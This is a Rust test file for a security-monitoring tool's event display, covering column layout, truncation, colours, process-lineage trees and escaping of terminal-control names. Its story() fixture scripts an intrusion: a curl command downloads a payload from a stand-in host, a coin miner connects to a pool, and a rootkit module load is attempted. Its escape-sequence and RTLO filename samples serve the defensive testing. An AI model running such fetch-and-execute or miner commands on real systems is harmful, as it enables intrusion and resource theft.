use proptest::prelude::*;
use sensor_proto::v1::*;

use std::ffi::{OsStr, OsString};

use sensor_proto::v1::event::Body;
use sensor_proto::v1::patch::Part;

use super::text::{bytes, columns, is_format, span};
use super::*;
use crate::format::View;

/// A line's look without colours.
fn look(width: Option<usize>) -> Look {
    Look {
        color: false,
        ascii: false,
        tree: true,
        wide: false,
        width,
        height: None,
    }
}

fn hashes(verdict: HashVerdict) -> Option<Hashes> {
    let sha256 = (verdict != HashVerdict::Gone).then(|| (0x10..0x30).collect());
    Some(Hashes {
        sha256,
        verdict: verdict.into(),
        ..Hashes::default()
    })
}

fn process(path: &[u8], argv: &[&[u8]], verdict: HashVerdict) -> Process {
    Process {
        image: Some(FileInfo {
            path: Some(path.to_vec()),
            hashes: hashes(verdict),
            ..FileInfo::default()
        }),
        argv: argv.iter().map(|argument| argument.to_vec()).collect(),
        credentials: Some(Credentials {
            real_user: Some(User {
                id: 1000,
                name: Some("alice".to_owned()),
                domain: None,
            }),
            effective_user: Some(User {
                id: 1000,
                name: Some("alice".to_owned()),
                domain: None,
            }),
            ..Credentials::default()
        }),
        ..Process::default()
    }
}

fn event(body: Body) -> Event {
    Event {
        time_ns: 1_700_000_000_123_456_789,
        process: Some(ProcessRef {
            pid: 4711,
            ..ProcessRef::default()
        }),
        body: Some(body),
        ..Event::default()
    }
}

fn row(event: &Event, process: Option<&Process>, lineage: &[&Process]) -> Row {
    let view = View {
        event,
        process,
        lineage,
        lineage_cut: false,
    };
    Row::of(&view, false)
}

/// The line of an event, without the names of the columns.
fn shown(look: Look, event: &Event, process: Option<&Process>) -> String {
    let mut out = Vec::new();
    Pretty::new(look).row(&row(event, process, &[]), &mut out);
    let text = String::from_utf8(out).unwrap();
    text.split_once('\n').unwrap().1.to_owned()
}

/// The names of the columns.
fn header(look: Look) -> String {
    let mut out = Vec::new();
    Pretty::new(look).row(&row(&Event::default(), None, &[]), &mut out);
    let text = String::from_utf8(out).unwrap();
    text.split_once('\n').unwrap().0.to_owned()
}

fn check(body: Body, process: &Process, what: &str, hash: &str) {
    let event = event(body);
    let line = shown(look(Some(140)), &event, Some(process));
    let name = event.event_type().short_name();
    let expected = format!(
        "22:13:20.123 {name:<11} alice       {:<24} {what:<54} {hash}",
        "make[4711]"
    );
    assert_eq!(line, format!("{}\n", expected.trim_end()));
    assert!(columns(line.trim_end()) <= 140);
}

fn file(path: &str, verdict: HashVerdict) -> Option<FileInfo> {
    Some(FileInfo {
        path: Some(path.as_bytes().to_vec()),
        hashes: hashes(verdict),
        size: Some(1_536),
        ..FileInfo::default()
    })
}

fn inet(address: [u8; 4], port: u32) -> Option<Endpoint> {
    Some(Endpoint {
        address: Some(address.to_vec()),
        port: Some(port),
        ..Endpoint::default()
    })
}

#[test]
fn one_line_an_event() {
    let make = process(
        b"/usr/bin/make",
        &[b"make", b"-j2", b"all targets"],
        HashVerdict::Verified,
    );
    check(
        Body::Exec(Exec::default()),
        &make,
        "make -j2 'all targets'",
        "101112131415 verified",
    );
    check(
        Body::Exit(Exit {
            code: Some(2),
            run_duration_ns: Some(1_250_000_000),
            ..Exit::default()
        }),
        &make,
        "code 2 after 1.2s /usr/bin/make",
        "",
    );
    check(
        Body::Exit(Exit {
            signal: Some(11),
            core_dumped: true,
            ..Exit::default()
        }),
        &make,
        "SIGSEGV, core dumped /usr/bin/make",
        "",
    );
    check(
        Body::Fork(Fork {
            child: Some(ProcessRef {
                pid: 12,
                ..ProcessRef::default()
            }),
            ..Fork::default()
        }),
        &make,
        "child [12]",
        "",
    );
    check(
        Body::FileCreate(FileCreate {
            how: FileCreateHow::Mkdir.into(),
            file: file("/tmp/new", HashVerdict::Gone),
            closed: true,
            ..FileCreate::default()
        }),
        &make,
        "mkdir /tmp/new 1.5 KiB",
        "             gone",
    );
    check(
        Body::Connect(Connect {
            transport: Transport::Tcp.into(),
            local: inet([10, 0, 0, 5], 40_000),
            remote: inet([93, 184, 216, 34], 443),
            direction: Direction::Outbound.into(),
            result: ConnectResult::Failed.into(),
            errno: Some(13),
            ..Connect::default()
        }),
        &make,
        "tcp 10.0.0.5:40000 -> 93.184.216.34:443 failed EACCES",
        "",
    );
    check(
        Body::Connect(Connect {
            transport: Transport::Unix.into(),
            remote: Some(Endpoint {
                unix_path: Some(b"dbus".to_vec()),
                unix_abstract: true,
                ..Endpoint::default()
            }),
            direction: Direction::Inbound.into(),
            ..Connect::default()
        }),
        &make,
        "unix <- @dbus",
        "",
    );
    check(
        Body::Connect(Connect {
            transport: Transport::Unix.into(),
            direction: Direction::Outbound.into(),
            result: ConnectResult::Failed.into(),
            errno: Some(2),
            ..Connect::default()
        }),
        &make,
        "unix -> address not known failed ENOENT",
        "",
    );
    check(
        Body::ModuleLoad(ModuleLoad {
            name: Some(b"rootkit".to_vec()),
            from_memory: Some(true),
            memory_bytes: Some(40_960),
            errno: Some(1),
            ..ModuleLoad::default()
        }),
        &make,
        "rootkit from memory 40 KiB failed EPERM",
        "",
    );
    check(
        Body::Patch(Patch {
            of: Some(EventId::default()),
            of_type: EventType::FileCreate.into(),
            part: Some(Part::ClosedFile(file("/tmp/x", HashVerdict::Racy).unwrap())),
        }),
        &make,
        "of file_create /tmp/x 1.5 KiB",
        "101112131415 racy",
    );
    let late = ProcessPatch {
        credentials: process(b"/x", &[], HashVerdict::Gone).credentials,
        container: Some(Box::new(Container {
            id: "box".to_owned(),
            ..Container::default()
        })),
        ..ProcessPatch::default()
    };
    check(
        Body::Patch(Patch {
            part: Some(Part::Process(late)),
            ..Patch::default()
        }),
        &make,
        "of process user alice container box",
        "",
    );
    check(
        Body::Aggregate(Box::new(Aggregate {
            of_type: EventType::FileCreate.into(),
            count: 1_234,
            first_time_ns: 0,
            last_time_ns: 10_000_000_000,
            rule: Some("tmp".to_owned()),
            sample: Some(Box::new(event(Body::FileCreate(FileCreate {
                file: file("/tmp/x", HashVerdict::Racy),
                ..FileCreate::default()
            })))),
        })),
        &make,
        "1234 x file_create in 10s, rule tmp, as /tmp/x",
        "",
    );
}

#[test]
fn what_is_not_known_is_said() {
    let bare = Event {
        body: None,
        ..Event::default()
    };
    let line = shown(look(None), &bare, None);
    assert_eq!(
        line,
        format!(
            "00:00:00.000 unspecified {:45}event of a newer schema\n",
            ""
        )
    );
    let line = shown(look(None), &event(Body::Exec(Exec::default())), None);
    assert!(
        line.contains("?[4711]") && line.contains("process not known"),
        "{line}"
    );
}

#[test]
fn another_effective_user_is_shown() {
    let mut sudo = process(b"/usr/bin/sudo", &[b"sudo"], HashVerdict::Verified);
    sudo.credentials.as_mut().unwrap().effective_user = Some(User {
        id: 0,
        name: Some("root".to_owned()),
        domain: None,
    });
    sudo.secure_exec = Some(true);
    let line = shown(
        look(Some(140)),
        &event(Body::Exec(Exec::default())),
        Some(&sudo),
    );
    assert!(
        line.contains(" alice>root ") && line.contains(" raised sudo "),
        "{line}"
    );
}

#[test]
fn long_paths_keep_their_tail_and_long_commands_their_head() {
    let path = format!("/{}/the-name", "directory/".repeat(50));
    let body = Body::FileCreate(FileCreate {
        file: file(&path, HashVerdict::Verified),
        ..FileCreate::default()
    });
    let make = process(
        b"/usr/bin/make",
        &[b"make", &b"x".repeat(40_000)],
        HashVerdict::Verified,
    );
    for width in 1..300 {
        let look = look(Some(width));
        let line = shown(look, &event(body.clone()), Some(&make));
        assert!(
            columns(line.trim_end_matches('\n')) <= width,
            "{width}: {line}"
        );
        if width >= 90 {
            assert!(
                line.contains('…') && line.contains("/the-name"),
                "{width}: {line}"
            );
        }
        let line = shown(look, &event(Body::Exec(Exec::default())), Some(&make));
        assert!(
            columns(line.trim_end_matches('\n')) <= width,
            "{width}: {line}"
        );
        if width >= 90 {
            assert!(
                line.contains(" make xxx") && line.contains('…'),
                "{width}: {line}"
            );
        }
        assert!(columns(&header(look)) <= width);
    }
}

#[test]
fn columns_line_up_below_their_header() {
    let make = process(b"/usr/bin/make", &[b"make"], HashVerdict::Verified);
    for width in [100, 140, 200] {
        let look = look(Some(width));
        let header = header(look);
        let line = shown(look, &event(Body::Exec(Exec::default())), Some(&make));
        for (title, value) in [
            ("TYPE", "exec"),
            ("USER", "alice"),
            ("PROCESS", "make["),
            ("WHAT", "make"),
            ("SHA-256", "1011"),
            ("VERDICT", "verified"),
        ] {
            if header.contains(title) {
                let at = format!("{} ", line.trim_end()).rfind(value);
                assert_eq!(header.find(title), at, "{title}\n{header}{line}");
            }
        }
        assert_eq!(header.contains("VERDICT"), width > 100);
    }
}

#[test]
fn colours_mean_something() {
    let look = Look {
        color: true,
        ..look(Some(140))
    };
    for (verdict, code) in [
        (HashVerdict::Verified, "\x1b[32mverified\x1b[0m"),
        (HashVerdict::Racy, "\x1b[33mracy\x1b[0m"),
        (HashVerdict::Gone, "\x1b[31mgone\x1b[0m"),
    ] {
        let make = process(b"/usr/bin/make", &[b"make"], verdict);
        let line = shown(look, &event(Body::Exec(Exec::default())), Some(&make));
        assert!(line.contains(code), "{line:?}");
        assert!(line.contains("\x1b[1mexec\x1b[0m"), "{line:?}");
    }
    let make = process(b"/usr/bin/make", &[b"make"], HashVerdict::Verified);
    let exit = Exit {
        code: Some(0),
        ..Exit::default()
    };
    let line = shown(look, &event(Body::Exit(exit)), Some(&make));
    assert!(line.contains("\x1b[2mexit\x1b[0m"), "{line:?}");
}

#[test]
fn no_color_counts_when_it_is_not_empty() {
    assert!(color_wanted(None));
    assert!(color_wanted(Some(OsStr::new(""))));
    assert!(!color_wanted(Some(OsStr::new("1"))));
}

#[test]
fn hostile_names_stay_text() {
    for (bytes, text) in [
        (b"plain".as_slice(), "plain"),
        (
            b"\x1b[2J\x1b]0;owned\x07",
            "\\u{1b}[2J\\u{1b}]0;owned\\u{7}",
        ),
        (b"a\nb\tc\r", "a\\nb\\tc\\r"),
        (b"\xc2\x9b31m", "\\u{9b}31m"),
        (b"\xff\xfe", "\\xff\\xfe"),
        ("gpj.\u{202e}exe".as_bytes(), "gpj.\\u{202e}exe"),
        ("a\u{200b}b".as_bytes(), "a\\u{200b}b"),
        ("Käse 漢字".as_bytes(), "Käse 漢字"),
        ("e\u{301}".as_bytes(), "e\u{301}"),
        (
            "e\u{301}\u{301}\u{301}".as_bytes(),
            "e\u{301}\u{301}\\u{301}",
        ),
        ("\u{301}".as_bytes(), "\\u{301}"),
    ] {
        assert_eq!(clean(bytes), text, "{bytes:?}");
    }
}

#[test]
fn numbers_for_people() {
    for (ns, text) in [
        (0, "0ns"),
        (999, "999ns"),
        (1_500, "1.5us"),
        (25_000_000, "25ms"),
        (59_999_999_999, "59s"),
        (90_000_000_000, "1.5m"),
        (u64::MAX, "5124095h"),
    ] {
        assert_eq!(span(ns), text);
    }
    assert_eq!(bytes(1_023), "1023 B");
    assert_eq!(bytes(5 << 20), "5.0 MiB");
}

/// A process of a story; its parents are known by what they are given as.
fn told(pid: u32, path: &str, argv: &str, verdict: HashVerdict) -> Process {
    let argv: Vec<&[u8]> = argv.split(' ').map(str::as_bytes).collect();
    Process {
        unique_pid: vec![u8::try_from(pid % 251).unwrap(); 16],
        pid,
        ..process(path.as_bytes(), &argv, verdict)
    }
}

fn event_of(process: &Process, body: Body) -> Event {
    Event {
        process: Some(process.reference()),
        ..event(body)
    }
}

/// What somebody did who logged in: a script that fetches, runs, connects and is killed.
fn story() -> Vec<Row> {
    let good = HashVerdict::Verified;
    let systemd = told(1, "/usr/lib/systemd/systemd", "init", good);
    let sshd = told(812, "/usr/sbin/sshd", "sshd", good);
    let bash = told(4_500, "/usr/bin/bash", "-bash", good);
    let dash = told(4_584, "/usr/bin/dash", "/bin/sh /tmp/deploy", good);
    let curl = told(
        4_590,
        "/usr/bin/curl",
        "curl -so /tmp/x http://192.0.2.7/x",
        good,
    );
    let hidden = told(4_592, "/usr/bin/dash", "/bin/sh /tmp/deploy", good);
    let miner = told(
        4_593,
        "/tmp/x",
        "/tmp/x --pool 192.0.2.9:3333",
        HashVerdict::Racy,
    );
    let exec = || Body::Exec(Exec::default());
    let logged_in = [&bash, &sshd, &systemd];
    let below_dash = [&dash, &bash, &sshd, &systemd];
    let below_hidden = [&hidden, &dash, &bash, &sshd, &systemd];
    let create = Body::FileCreate(FileCreate {
        file: file("/tmp/x", good),
        closed: true,
        ..FileCreate::default()
    });
    let connect = |to, result: ConnectResult| {
        Body::Connect(Connect {
            transport: Transport::Tcp.into(),
            remote: inet([192, 0, 2, to], 3_333),
            direction: Direction::Outbound.into(),
            result: result.into(),
            duration_ns: Some(1_200_000),
            ..Connect::default()
        })
    };
    let module = Body::ModuleLoad(ModuleLoad {
        name: Some(b"rootkit".to_vec()),
        file: file("/tmp/rootkit.ko", HashVerdict::Gone),
        errno: Some(1),
        ..ModuleLoad::default()
    });
    let exit = |code, signal| {
        Body::Exit(Exit {
            code,
            signal,
            run_duration_ns: Some(97_000_000),
            ..Exit::default()
        })
    };
    vec![
        row(&event_of(&dash, exec()), Some(&dash), &logged_in),
        row(&event_of(&curl, exec()), Some(&curl), &below_dash),
        row(
            &event_of(&curl, connect(7, ConnectResult::Established)),
            Some(&curl),
            &below_dash,
        ),
        row(&event_of(&curl, create), Some(&curl), &below_dash),
        row(
            &event_of(&curl, exit(Some(0), None)),
            Some(&curl),
            &below_dash,
        ),
        row(&event_of(&miner, exec()), Some(&miner), &below_hidden),
        row(
            &event_of(&miner, connect(9, ConnectResult::Refused)),
            Some(&miner),
            &below_hidden,
        ),
        row(&event_of(&miner, module), Some(&miner), &below_hidden),
        row(
            &event_of(&miner, exit(None, Some(9))),
            Some(&miner),
            &below_hidden,
        ),
        row(
            &event_of(&dash, exit(Some(1), None)),
            Some(&dash),
            &logged_in,
        ),
    ]
}

fn render(look: Look, rows: &[Row]) -> String {
    let mut stream = Pretty::new(look);
    let mut out = Vec::new();
    for row in rows {
        stream.row(row, &mut out);
    }
    String::from_utf8(out).unwrap()
}

#[test]
fn a_story_at_every_width() {
    for (width, golden) in [
        (40, include_str!("golden/40.txt")),
        (60, include_str!("golden/60.txt")),
        (80, include_str!("golden/80.txt")),
        (120, include_str!("golden/120.txt")),
        (200, include_str!("golden/200.txt")),
    ] {
        let text = render(look(Some(width)), &story());
        assert_eq!(text, golden, "{width} columns:\n{text}");
    }
}

#[test]
fn wide_lines_have_whole_hashes() {
    let wide = Look {
        wide: true,
        ..look(Some(80))
    };
    let text = render(wide, &story());
    let whole: String = (0x10..0x30).map(|byte| format!("{byte:02x}")).collect();
    assert!(text.contains(&format!("{whole} racy\n")), "{text}");
    assert!(
        text.contains("curl -so /tmp/x http://192.0.2.7/x"),
        "{text}"
    );
}

#[test]
fn ancestors_are_told_when_they_cannot_be_seen() {
    let story = story();
    let chains = |text: &str| text.matches('→').count();
    // Once, and once the process between that had no event of its own.
    let text = render(look(Some(120)), &story);
    assert_eq!(chains(&text), 2, "{text}");
    assert!(
        text.contains("systemd[1] → sshd[812] → bash[4500]\n"),
        "{text}"
    );
    assert!(text.contains("│ └ dash[4592]\n"), "{text}");
    // On a screen of three lines again, when they have gone.
    let low = Look {
        height: Some(3),
        ..look(Some(120))
    };
    assert!(chains(&render(low, &story)) > 2);
    // As a list there is no tree.
    let list = Look {
        tree: false,
        ..look(Some(120))
    };
    let text = render(list, &story);
    assert_eq!(text.lines().count(), story.len() + 1);
    assert!(
        !text.contains('└') && !text.contains('│') && !text.contains('→'),
        "{text}"
    );
    let plain = Look {
        ascii: true,
        ..look(Some(120))
    };
    let text = render(plain, &story);
    assert!(text.is_ascii() && text.contains("`-dash[4584]"), "{text}");
}

#[test]
fn descent_stays_in_its_column() {
    let all: Vec<Process> = (0..60)
        .map(|pid| told(pid + 1, "/bin/sh", "sh", HashVerdict::Verified))
        .collect();
    let mut stream = Pretty::new(look(Some(120)));
    let mut out = Vec::new();
    for (index, process) in all.iter().enumerate() {
        let lineage: Vec<&Process> = all[..index].iter().rev().take(16).collect();
        let event = event_of(process, Body::Exec(Exec::default()));
        stream.row(&row(&event, Some(process), &lineage), &mut out);
    }
    let text = String::from_utf8(out).unwrap();
    for (index, _) in all.iter().enumerate() {
        let id = format!("sh[{}] ", index + 1);
        assert!(text.contains(&id), "{id}\n{text}");
    }
}

#[test]
fn a_row_says_what_it_shows() {
    let rows = story();
    let saying = |text: &str| rows.iter().filter(|row| row.says(text)).count();
    assert_eq!(saying("curl"), 4);
    assert_eq!(saying("curl[4590]"), 4);
    assert_eq!(saying("dash[4592]"), 4, "its descendants");
    assert_eq!(saying("bash"), 0, "ancestors by name and number only");
    assert_eq!(saying("racy"), 1);
    assert_eq!(saying("sigkill"), 1);
    assert_eq!(saying("alice"), rows.len());
}

#[test]
fn the_locale_says_whether_there_is_utf8() {
    let with = |set: &[(&str, &str)]| {
        utf8_wanted(|name| {
            let value = set.iter().find(|(key, _)| *key == name);
            value.map(|(_, value)| OsString::from(value))
        })
    };
    assert!(with(&[("LANG", "de_DE.UTF-8")]));
    assert!(with(&[("LANG", "C"), ("LC_ALL", "C.utf8")]));
    assert!(with(&[("LC_ALL", ""), ("LANG", "en_GB.UTF-8")]));
    assert!(!with(&[("LC_ALL", "C"), ("LANG", "en_GB.UTF-8")]));
    assert!(!with(&[]));
}

#[test]
fn verdicts_can_be_seen_without_colours_and_in_little_room() {
    for (verdict, word, mark) in [
        (HashVerdict::Verified, "verified", " + make"),
        (HashVerdict::Drifted, "drifted", " ~ make"),
        (HashVerdict::Timeout, "timeout", " ! make"),
    ] {
        let make = process(b"/usr/bin/make", &[b"make"], verdict);
        let event = event(Body::Exec(Exec::default()));
        let line = shown(look(Some(120)), &event, Some(&make));
        assert!(line.ends_with(&format!("{word}\n")), "{line}");
        for width in [40, 60, 80] {
            let line = shown(look(Some(width)), &event, Some(&make));
            assert!(line.contains(mark), "{width}: {line}");
        }
    }
}

proptest! {
    #[test]
    fn nothing_escapes_and_nothing_wraps(
        path in prop::collection::vec(any::<u8>(), 0..80),
        text in "\\PC{0,40}",
        controls in "[\\x00-\\x1f\\x7f-\\x9f\u{202a}-\u{202e}漢a]{0,40}",
        width in 1_usize..200,
        depth in 0_usize..20,
        ascii in any::<bool>(),
        tree in any::<bool>(),
    ) {
        let process = process(&path, &[&path, text.as_bytes(), controls.as_bytes()], HashVerdict::Racy);
        let endpoint = Some(Endpoint { unix_path: Some(path.clone()), ..Endpoint::default() });
        for body in [
            Body::Exec(Exec::default()),
            Body::Exit(Exit::default()),
            Body::FileCreate(FileCreate { file: process.image.clone(), ..FileCreate::default() }),
            Body::Connect(Connect { remote: endpoint.clone(), ..Connect::default() }),
            Body::ModuleLoad(ModuleLoad { name: Some(controls.as_bytes().to_vec()), file: process.image.clone(), ..ModuleLoad::default() }),
        ] {
            let look = Look { ascii, tree, ..look(Some(width)) };
            let lineage = vec![&process; depth];
            let event = event(body);
            let row = Row::of(&View { event: &event, process: Some(&process), lineage: &lineage, lineage_cut: true }, ascii);
            let mut out = Vec::new();
            Pretty::new(look).row(&row, &mut out);
            let text = String::from_utf8(out).unwrap();
            prop_assert!(text.ends_with('\n'));
            prop_assert_eq!(text.lines().count(), if tree && depth > 0 { 3 } else { 2 });
            for line in text.lines() {
                prop_assert!(columns(line) <= width, "{} > {}: {}", columns(line), width, line);
                prop_assert!(!line.chars().any(|character| character.is_control() || is_format(character)), "{:?}", line);
                prop_assert!(!ascii || line.is_ascii(), "{:?}", line);
            }
        }
    }
}
